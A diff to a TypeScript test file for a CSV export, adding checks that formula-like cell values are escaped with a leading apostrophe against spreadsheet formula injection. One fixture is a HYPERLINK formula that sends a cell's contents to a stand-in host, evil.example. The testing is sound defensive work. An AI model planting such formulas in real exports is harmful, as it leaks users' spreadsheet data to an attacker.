@@ -9,7 +9,8 @@ import { CSV_HEADERS, csvFormat } from './csv-format.js';
 import { exportChunks } from './export-stream.js';
 import { RenderWorker } from './render-worker.js';
 
-// The hand-written RFC 4180 writer: what a CSV reader gets back must be exactly the stored values.
+// The hand-written RFC 4180 writer: what a CSV reader gets back must be exactly the stored values,
+// except that a value a spreadsheet would run as a formula comes back with a leading ' (OWASP).
 
 type Overrides = { custom_message?: string; target_details?: string; author_name?: string | null };
 
@@ -54,7 +55,7 @@ function storedEvent(id: number, overrides: Overrides, reshape?: (record: Record
 
 describe('csv export format', () => {
   it('quotes commas, quotes and line breaks, and reads back exactly', () => {
-    const tricky = ['a, b', 'say "hi"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\nend', '=1+2', ' padded ', 'plain'];
+    const tricky = ['a, b', 'say "hi"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\nend', '1=2', ' padded ', 'plain'];
     const events = tricky.map((message, i) => storedEvent(i + 1, { custom_message: message, target_details: `t${i},x` }));
     const text = csvFormat.preamble!() + csvFormat.render(events);
     const rows: string[][] = parse(text, { relax_column_count: false });
@@ -63,6 +64,22 @@ describe('csv export format', () => {
     const details = CSV_HEADERS.indexOf('Target Details');
     assert.deepEqual(rows.slice(1).map((r) => r[action]), tricky);
     assert.deepEqual(rows.slice(1).map((r) => r[details]), tricky.map((_, i) => `t${i},x`));
+  });
+
+  it("prefixes with ' every text that begins with =, +, -, @, tab or CR, and nothing else", () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', "'=already quoted"];
+    const harmless = ['a=b', 'x+1', 'left-pad', 'user@example.com', ' =1', '', 'ÿ=1'];
+    const events = [...formulas, ...harmless].map((message, i) => storedEvent(i + 1, { custom_message: message, author_name: message }));
+    const rows = parse(csvFormat.render(events)) as string[][];
+    const action = CSV_HEADERS.indexOf('Action');
+    const author = CSV_HEADERS.indexOf('Author Name');
+    assert.deepEqual(rows.map((r) => r[action]), [...formulas.slice(0, 6).map((f) => `'${f}`), formulas[6], ...harmless]);
+    assert.deepEqual(rows.map((r) => r[author]), rows.map((r) => r[action]));
+    // Numbers are Trove's own and stay numbers: a deploy token's author id is negative.
+    const [negative] = parse(csvFormat.render([storedEvent(1, {}, (r) => (r.author_id = -2))])) as string[][];
+    assert.equal(negative[CSV_HEADERS.indexOf('Author ID')], '-2');
+    const [scoped] = parse(csvFormat.render([storedEvent(1, {}, (r) => (r.package.name = '@acme/ui-kit'))])) as string[][];
+    assert.equal(scoped[CSV_HEADERS.indexOf('Package Name')], "'@acme/ui-kit");
   });
 
   it('ends every record with CRLF, writes null as empty and numbers as digits', () => {
@@ -109,6 +126,7 @@ describe('csv export of every field shape', () => {
     assert.deepEqual(column('Pipeline').slice(6, 9), ['', '77', '']);
     assert.equal(column('Target ID')[6], String(-1.5e-7));
     assert.equal(column('ID')[6], '9007199254740991');
+    assert.equal(column('Action')[12], "'=1+2");
     assert.deepEqual([column('IP Address')[1], column('Project')[1], column('Version')[1], column('Token Name')[2]], ['', '', '', '']);
   });
 });
